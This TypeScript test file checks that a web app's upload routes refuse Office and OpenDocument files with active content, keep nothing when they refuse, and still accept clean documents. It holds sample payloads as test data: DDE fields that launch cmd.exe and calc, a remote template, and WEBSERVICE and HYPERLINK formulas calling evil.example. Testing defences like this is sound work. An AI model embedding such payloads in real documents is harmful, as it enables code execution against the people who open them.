import assert from 'node:assert/strict';
import { existsSync, mkdtempSync, readdirSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import type { FastifyInstance, LightMyRequestResponse } from 'fastify';
import { writeReportDocx } from '../../src/report/docx.js';
import { buildReport } from '../../src/services/report.js';
import type { Store } from '../../src/storage/connect.js';
import { commitmentSubject } from '../../src/storage/workspace.js';
import { seededApp } from '../helpers/app.js';
import { signIn, type SignedIn } from '../helpers/auth.js';
import { refusalText, uploadRoutes, type UploadRoute } from '../helpers/upload-routes.js';
import { eachDatabase } from '../helpers/databases.js';
import { changedTables, dumpDatabase } from '../helpers/dump.js';
import * as A from './active-samples.js';
import { multipart } from './samples.js';

/**
 * The probe's Office files (issue 17, 2) through every route that takes a file — evidence (workspace
 * form and API) and an alert's file (public form and API) — on both databases: each refused with a
 * 4xx whose words name what was found and where, nothing kept (no row, no audit entry, no file). The
 * ordinary documents, and the app's own report as Word, are kept.
 */

const dde = `c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"`;

const PROBE: { name: string; bytes: () => Buffer; message: RegExp }[] = [
  {
    name: 'plantilla.docx',
    bytes: () =>
      A.wordDoc(A.paragraph(A.run('Informe')), {
        parts: { 'word/_rels/settings.xml.rels': A.relationships(A.rel('rId1', 'attachedTemplate', 'https://evil.example/t.dotm')) },
      }),
    message: /carga una plantilla remota \(word\/_rels\/settings\.xml\.rels\)/,
  },
  {
    name: 'dde.docx',
    bytes: () => A.wordDoc(A.paragraph(A.field('DDE', `AUTO ${dde}`))),
    message: /enlace DDE \(DDEAUTO\).*\(word\/document\.xml\)/,
  },
  {
    name: 'ole.docx',
    bytes: () => A.wordDoc(A.paragraph(A.run('x')), { parts: { 'word/embeddings/oleObject1.bin': A.CFB } }),
    message: /objeto OLE incrustado \(word\/embeddings\/oleObject1\.bin\)/,
  },
  {
    name: 'activex.docx',
    bytes: () =>
      A.wordDoc(A.paragraph(A.run('x')), {
        types: '<Override PartName="/word/activeX/activeX1.xml" ContentType="application/vnd.ms-office.activeX+xml"/>',
      }),
    message: /controles ActiveX \(\[Content_Types\]\.xml\)/,
  },
  {
    name: 'cmd.xlsx',
    bytes: () => A.workbook(['cmd|&apos; /C calc&apos;!A0']),
    message: /enlace DDE, que puede ejecutar programas \(xl\/worksheets\/sheet1\.xml\)/,
  },
  {
    name: 'web.xlsx',
    bytes: () => A.workbook(['_xlfn.WEBSERVICE(&quot;https://evil.example/&quot;)']),
    message: /fórmula WEBSERVICE que consulta la web/,
  },
  {
    name: 'hyperlink.xlsx',
    bytes: () => A.workbook(['HYPERLINK(&quot;https://evil.example/&quot;,&quot;acta&quot;)']),
    message: /fórmula HYPERLINK/,
  },
  {
    name: 'macro.odt',
    bytes: () => A.openDoc('text', A.odtBody(''), { parts: { 'Basic/Standard/Module1.xml': '<script:module/>' } }),
    message: /contiene macros \(Basic\/Standard\/Module1\.xml\)/,
  },
  {
    name: 'dde.ods',
    bytes: () =>
      A.openDoc(
        'spreadsheet',
        A.odsCells('<table:table-cell table:formula="of:=DDE(&quot;cmd&quot;;&quot;/c calc&quot;;&quot;A1&quot;)"/>'),
      ),
    message: /enlace DDE.*\(content\.xml\)/,
  },
];

function listing(dir: string): string[] {
  return existsSync(dir) ? (readdirSync(dir, { recursive: true }) as string[]).sort() : [];
}

describe('uploads: Office files with active content, refused on every upload route, nothing kept', () => {
  eachDatabase((db) => {
    let app: FastifyInstance;
    let store: Store;
    let dir: string;
    let commitmentId: number;
    let editor: SignedIn;
    // One account per alert route: five alerts a day each, and the good files below raise three.
    let citizens: SignedIn[];

    before(async () => {
      dir = mkdtempSync(join(tmpdir(), 'vigia-active-'));
      process.env.FILES_DIR = dir;
      const s = await seededApp(db);
      ({ app, store } = s);
      commitmentId = s.commitment(4);
      const own = await commitmentSubject(store.db, commitmentId);
      editor = await signIn(app, store, { role: 'agency-editor', agencyId: own!.agency_id! });
      citizens = [await signIn(app, store, { role: 'civil-society' }), await signIn(app, store, { role: 'civil-society' })];
    });
    after(async () => {
      await app.close();
      rmSync(dir, { recursive: true, force: true });
    });

    const routes = (): UploadRoute[] => uploadRoutes(commitmentId, editor, citizens[0]!, citizens[1]!);

    const send = (r: UploadRoute, name: string, bytes: Uint8Array): Promise<LightMyRequestResponse> => {
      const form = multipart({ _csrf: r.who.csrf, ...r.fields }, [{ field: r.field, name, bytes }]);
      return app.inject({
        method: 'POST',
        url: r.url,
        payload: form.payload,
        headers: { ...form.headers, cookie: r.who.cookie, 'accept-language': 'es' },
      });
    };

    test('each of the probe’s files, through each route: 4xx naming what was found, every table and FILES_DIR as before', async () => {
      const rows = await dumpDatabase(store);
      const files = listing(dir);
      const wrong: string[] = [];
      for (const r of routes()) {
        for (const f of PROBE) {
          const res = await send(r, f.name, f.bytes());
          const message = refusalText(r, res);
          if (res.statusCode < 400 || res.statusCode >= 500) wrong.push(`${r.url}, ${f.name}: ${res.statusCode}`);
          else if (!f.message.test(message) || !message.includes(f.name))
            wrong.push(`${r.url}, ${f.name}: ${res.statusCode} without ${f.message}: ${message.slice(0, 300)}`);
        }
      }
      assert.deepEqual(wrong, []);
      assert.deepEqual(changedTables(rows, await dumpDatabase(store)), [], 'no row, no audit entry');
      assert.deepEqual(listing(dir), files, 'no file in FILES_DIR');
    });

    test('ordinary documents with web links and SUM, and the app’s own report as Word, are kept by each route', async () => {
      const report = await writeReportDocx(await buildReport(store, { lang: 'es', today: '2026-11-27' }));
      const good: [string, Buffer][] = [
        ['Informe con enlaces.docx', await A.cleanDocx()],
        ['Avance con sumas.xlsx', await A.cleanXlsx()],
        ['Reporte de autoevaluación.docx', report],
      ];
      for (const r of routes()) {
        for (const [name, bytes] of good) {
          const rows = await dumpDatabase(store);
          const res = await send(r, name, bytes);
          assert.ok(res.statusCode === 201 || res.statusCode === 303, `${r.url}, ${name}: ${res.statusCode} ${res.body.slice(0, 300)}`);
          const changed = changedTables(rows, await dumpDatabase(store));
          assert.ok(
            changed.includes('files') || changed.includes('evidence') || changed.includes('alerts'),
            `${r.url}, ${name}: ${changed.join(', ')}`,
          );
        }
      }
    });
  });
});
